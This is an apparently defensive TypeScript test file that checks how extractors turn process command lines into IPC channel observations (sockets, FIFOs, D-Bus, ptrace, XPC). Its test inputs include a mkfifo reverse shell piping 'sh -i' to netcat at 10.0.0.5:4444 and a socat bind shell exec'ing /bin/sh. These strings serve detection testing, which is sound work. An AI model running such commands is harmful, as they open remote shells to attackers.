import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { FactExtractor } from '../facts/extractor.ts'
import { read, type SampleEvent, sysmon } from '../facts/sample-event.ts'
import { appleEvent } from './apple-event.ts'
import { com } from './com.ts'
import { dbus } from './dbus.ts'
import { fifo } from './fifo.ts'
import { namedPipe } from './named-pipe.ts'
import { ptrace } from './ptrace.ts'
import { messageQueue, semaphore, sharedMemory } from './system-v-ipc.ts'
import { unixSocket } from './unix-socket.ts'
import { xpc } from './xpc.ts'

const started = (product: string, CommandLine: string): SampleEvent => ({
  channel: product,
  eventId: 'exec',
  logSources: [{ product, category: 'process_creation' }],
  fields: { ProcessId: 42, Image: '/bin/x', CommandLine, User: 'anna' },
})

const named = (extractor: FactExtractor, commandLine: string, product = 'linux') =>
  read(extractor, started(product, commandLine))?.map((fact) =>
    fact.kind === 'observation' ? `${fact.act} ${fact.channel.name} ${fact.detail.does}` : '',
  )

test('Unix sockets: nc, socat, curl, unix:// addresses', () => {
  assert.deepEqual(named(unixSocket, 'nc -lU /tmp/.x.sock'), ['refer /tmp/.x.sock listen'])
  assert.deepEqual(named(unixSocket, 'nc -U /run/docker.sock'), ['refer /run/docker.sock connect'])
  assert.deepEqual(named(unixSocket, 'socat UNIX-LISTEN:/tmp/s,fork EXEC:/bin/sh'), ['refer /tmp/s listen'])
  assert.deepEqual(named(unixSocket, 'socat - ABSTRACT-CONNECT:hidden'), ['refer hidden connect'])
  assert.deepEqual(named(unixSocket, 'curl --unix-socket /var/run/docker.sock http://x/info'), [
    'refer /var/run/docker.sock connect',
  ])
  assert.deepEqual(named(unixSocket, 'docker -H unix:///run/user/1000/docker.sock ps'), [
    'refer /run/user/1000/docker.sock connect',
  ])
  assert.deepEqual(named(unixSocket, 'nc -l 4444'), [])
})

test('FIFOs: mkfifo and mknod', () => {
  assert.deepEqual(named(fifo, 'sh -c "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.5 4444 > /tmp/f"'), [
    'refer /tmp/f create',
  ])
  assert.deepEqual(named(fifo, 'mkfifo -m 600 /tmp/g'), ['refer /tmp/g create'])
  assert.deepEqual(named(fifo, 'mknod /tmp/h p'), ['refer /tmp/h create'])
  assert.deepEqual(named(fifo, 'mknod /dev/loop9 b 7 9'), [])
})

test('System V and POSIX objects, each kind its own', () => {
  assert.deepEqual(named(messageQueue, 'ipcmk -Q'), ['refer new create'])
  assert.deepEqual(named(sharedMemory, 'ipcmk -M 4096 -p 0666'), ['refer new create'])
  assert.deepEqual(named(messageQueue, 'ipcmk -M 4096'), [])
  assert.deepEqual(named(sharedMemory, 'cp x /dev/shm/.a'), ['refer /dev/shm/.a use'])
  assert.deepEqual(named(semaphore, 'rm /dev/shm/sem.lock'), ['refer /dev/shm/sem.lock use'])
  assert.deepEqual(named(sharedMemory, 'rm /dev/shm/sem.lock'), [])
})

test('D-Bus calls name their destination', () => {
  assert.deepEqual(named(dbus, 'dbus-send --system --dest=org.freedesktop.login1 /org/freedesktop/login1 x.y'), [
    'refer org.freedesktop.login1 send',
  ])
  assert.deepEqual(named(dbus, 'gdbus call --system --dest org.freedesktop.PolicyKit1 --object-path /'), [
    'refer org.freedesktop.PolicyKit1 send',
  ])
  assert.deepEqual(named(dbus, 'busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1'), [
    'refer org.freedesktop.systemd1 send',
  ])
  assert.deepEqual(named(dbus, 'dbus-daemon --system'), [])
})

test('debuggers attach to a pid', () => {
  assert.deepEqual(named(ptrace, 'gdb -batch -p 4242 -ex bt'), ['refer 4242 attach'])
  assert.deepEqual(named(ptrace, 'strace -f -p 1'), ['refer 1 attach'])
  assert.deepEqual(named(ptrace, 'gdb ./a.out'), [])
})

test('Apple events and XPC are macOS only', () => {
  const script = `osascript -e 'tell application "Terminal" to do script "id"'`
  assert.deepEqual(named(appleEvent, script, 'macos'), ['refer Terminal send'])
  assert.equal(named(appleEvent, script, 'linux'), undefined)
  assert.deepEqual(named(xpc, 'launchctl kickstart -k system/com.apple.tccd', 'macos'), [
    'refer com.apple.tccd control',
  ])
  assert.deepEqual(named(xpc, 'launchctl load -w /Library/LaunchDaemons/x.plist', 'macos'), [
    'refer /Library/LaunchDaemons/x.plist register',
  ])
})

test('a platform’s channels are not looked for in texts of another', () => {
  assert.equal(named(namedPipe, 'echo \\\\.\\pipe\\x'), undefined)
  assert.equal(named(com, 'python CreateObject("Excel.Application")'), undefined)
  assert.equal(
    read(fifo, sysmon(1, { ProcessId: 1, Image: 'C:\\a.exe', CommandLine: 'bash -c "mkfifo /tmp/f"' })),
    undefined,
  )
})
